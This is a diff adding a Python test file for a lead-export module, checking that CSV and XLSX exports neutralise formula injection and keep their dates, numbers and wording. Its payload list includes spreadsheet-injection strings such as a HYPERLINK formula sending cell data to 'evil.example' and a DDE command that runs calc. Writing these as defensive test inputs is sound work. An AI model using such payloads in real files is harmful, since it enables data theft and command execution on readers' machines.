@@ -1,0 +1,238 @@
+"""Leads as a table: what stands in it, and that nothing in it is calculated."""
+
+import csv
+import io
+import zipfile
+from collections.abc import Sequence
+from dataclasses import replace
+from datetime import UTC, datetime
+from pathlib import Path
+from zoneinfo import ZoneInfo
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from consult.delivery.exports.cells import defused
+from consult.delivery.exports.columns import NO_ANSWER, columns
+from consult.delivery.exports.csv_file import csv_pieces
+from consult.delivery.exports.xlsx_file import write_xlsx
+from consult.questionnaire.editions import newest
+from consult.storage.exports.export_rows import ExportedLead
+
+LEAD = ExportedLead(
+    id=7,
+    submitted_at=datetime(2026, 11, 20, 14, 5, 33, tzinfo=UTC),
+    demo=False,
+    edition="2026-11",
+    depth="quick",
+    seconds_taken=390,
+    name="Dana Okafor",
+    business="Okafor Roofing",
+    email="dana@example.com",
+    phone="+1 555 0100",
+    wants_consult=True,
+    consented_at=datetime(2026, 11, 20, 14, 9, tzinfo=UTC),
+    stage="consult_booked",
+    stage_since=datetime(2026, 11, 21, 8, 0, tzinfo=UTC),
+    holder="Grace Hopper",
+    due_at=None,
+    first_contact_at=None,
+    consult_at=None,
+    ask_again_on=None,
+    source={"utm_source": "newsletter"},
+    separation=49.97,
+    separation_band="Blurred",
+    handoff=31.25,
+    handoff_band="Leaky",
+    archetype="Baton on the floor",
+    consult="not_now",
+    plan=["First reply", "One place for leads"],
+    answers={
+        "first_reply": 2,
+        "symptoms": ("no_time",),
+        "patience": "unknown",
+        "first_sale_value": 1200,
+    },
+    wording={
+        "first_reply": {"choices": {"0": "Whenever", "2": "The same day"}},
+        "symptoms": {"choices": {"no_time": "No time"}},
+        "patience": {"choices": {}},
+        "first_sale_value": {"choices": {}},
+        "lead_list": {"choices": {"0": "Nowhere"}},
+    },
+)
+# After OWASP, "CSV Injection", and what was seen in reports of it.
+PAYLOADS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "'=1+1",
+    '"=1+1',
+    '",=1+1',
+    ";=1+1",
+    'x",=1+1,"',
+    "x;=1+1",
+    "x\t=1+1",
+    "x\n=1+1",
+    "x | =1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(1)",
+    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("https://evil.example"), "//a")',
+)
+SIGNS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+
+
+def lines_of(*leads: ExportedLead) -> list[list[str]]:
+    content = b"".join(csv_pieces(columns(UTC), [leads]))
+    assert content.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+def row_of(lead: ExportedLead) -> dict[str, str]:
+    head, row = lines_of(lead)
+    assert len(set(head)) == len(head)
+    return dict(zip(head, row, strict=True))
+
+
+def sheet_of(folder: Path, bundles: Sequence[Sequence[ExportedLead]]):  # type: ignore[no-untyped-def]
+    file = folder / "leads.xlsx"
+    with file.open("w+b") as target:
+        write_xlsx(target, folder, columns(UTC), bundles)
+    return load_workbook(file)["Leads"]
+
+
+def refused(text: str) -> str:
+    """What `defused` made this of: the same rule, backwards."""
+    kept: list[str] = []
+    begins = True
+    for letter in text:
+        if begins and letter in SIGNS:
+            assert kept, f"nothing before {letter!r} in {text!r}"
+            assert kept.pop() == "'", f"no apostrophe before {letter!r} in {text!r}"
+        kept.append(letter)
+        begins = letter in ",;|\"'\t\r\n" or (
+            begins and (letter.isspace() or letter in "\ufeff\u200b\u200c\u200d\u2060")
+        )
+    return "".join(kept)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_cell_of_a_csv_begins_a_formula(payload: str) -> None:
+    lead = replace(LEAD, name=payload, source={"ref": payload})
+    content = b"".join(csv_pieces(columns(UTC), [[lead]])).decode("utf-8-sig")
+    # As programs with other habits than ours would part it into cells.
+    for separator in ",;\t|":
+        for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
+            for cell in row:
+                bare = cell.lstrip(' "\ufeff\u200b')
+                assert not bare or bare[0] not in SIGNS - frozenset("\r\n"), cell
+
+
+@given(
+    st.text(
+        alphabet=st.characters(exclude_categories=["Cs"])
+        | st.sampled_from("=+-@,;|\"'\t\r\n \uff1dx")
+    )
+)
+def test_a_defused_text_can_be_had_back(text: str) -> None:
+    assert refused(defused(text)) == text
+
+
+@given(st.text(alphabet="=-@'\" ,x\t\u200b"))
+def test_defusing_adds_apostrophes_only_and_leaves_none_of_the_signs_at_a_beginning(
+    text: str,
+) -> None:
+    safe = defused(text)
+    assert safe.replace("'", "") == text.replace("'", "")
+    bare = safe.lstrip(' "\u200b,')
+    assert not bare or bare[0] not in SIGNS
+
+
+def test_a_csv_quotes_every_cell_and_says_dates_so_that_programs_know_them() -> None:
+    content = b"".join(csv_pieces(columns(UTC), [[LEAD]])).decode("utf-8-sig")
+    assert content.startswith('"Lead","Business","Name","Sent (UTC)",')
+    assert content.count("\r\n") == 2
+    assert '"2026-11-20 14:05","No","2026-11"' in content
+    assert all(line.startswith('"') and line.endswith('"') for line in content.split("\r\n")[:-1])
+
+
+def test_moments_are_told_in_the_zone_of_the_agency() -> None:
+    (sent,) = [c for c in columns(ZoneInfo("America/New_York")) if c.head.startswith("Sent")]
+    assert sent.head == "Sent (America/New_York)"
+    assert sent.cell(LEAD) == datetime(2026, 11, 20, 9, 5)  # noqa: DTZ001
+
+
+def test_a_row_is_in_words() -> None:
+    row = row_of(LEAD)
+    assert row["Name"] == "Dana Okafor"
+    assert row["Phone"] == "'+1 555 0100"
+    assert row["Stage"] == "Consult booked"
+    assert row["Source"] == "newsletter"
+    assert row["Separation"] == "49.9"  # 50.0 would be the next band
+    assert row["Consult advised"] == "Not now"
+    assert (row["Plan, step 2"], row["Plan, step 3"]) == ("One place for leads", "")
+    assert row["First reply (first_reply)"] == "The same day"
+    assert row["What bothers you most? (symptoms)"] == "No time"
+    assert row["Time before judging (patience)"] == "I don’t know."
+    assert row["One place for leads (lead_list)"] == NO_ANSWER
+    assert row["Marketing goal (marketing_goal)"] == ""  # was not asked
+
+
+def test_the_questions_stand_in_their_order() -> None:
+    head = [column.head for column in columns(UTC)]
+    order = [
+        head.index(next(h for h in head if h.endswith(f"({id})"))) for id in newest().questions
+    ]
+    assert order == sorted(order)
+    assert order[-1] == len(head) - 1
+
+
+def test_a_workbook_has_texts_that_are_texts_and_real_numbers_and_dates(tmp_path: Path) -> None:
+    leads = [replace(LEAD, id=number, name=name) for number, name in enumerate(PAYLOADS, start=1)]
+    sheet = sheet_of(tmp_path, [leads[:20], leads[20:]])
+    head = [cell.value for cell in sheet[1]]
+    assert head == [column.head for column in columns(UTC)]
+    assert sheet.freeze_panes == "C2"
+    for row, payload in zip(sheet.iter_rows(min_row=2), PAYLOADS, strict=True):
+        by_head = dict(zip(head, row, strict=True))
+        # XML knows no bare carriage return.
+        assert by_head["Name"].value.replace("_x000D_", "\r") == payload.replace("\r", "\r")
+        assert all(cell.data_type != "f" for cell in row)
+        assert by_head["Sent (UTC)"].value == datetime(2026, 11, 20, 14, 5)  # noqa: DTZ001
+        assert by_head["Handoff"].value == 31.3
+        assert (
+            by_head[
+                "What is a new customer’s first sale worth, on average? (first_sale_value)"
+            ].value
+            == 1200
+        )
+        assert by_head["Phone"].value == "+1 555 0100"
+
+
+@pytest.mark.parametrize("odd", ["\ud800", "\x00\x01\x0b", "x" * 40_000, "<b>&amp;", "\ufffe"])
+def test_no_text_breaks_a_file(tmp_path: Path, odd: str) -> None:
+    lead = replace(LEAD, business=odd)
+    assert row_of(lead)["Name"] == "Dana Okafor"
+    sheet = sheet_of(tmp_path, [[lead]])
+    assert sheet["A2"].value == 7
+    assert sheet["H2"].value
+
+
+def test_a_workbook_leaves_nothing_beside_it(tmp_path: Path) -> None:
+    sheet_of(tmp_path, [[LEAD]])
+    assert [file.name for file in tmp_path.iterdir()] == ["leads.xlsx"]
+    assert zipfile.is_zipfile(tmp_path / "leads.xlsx")
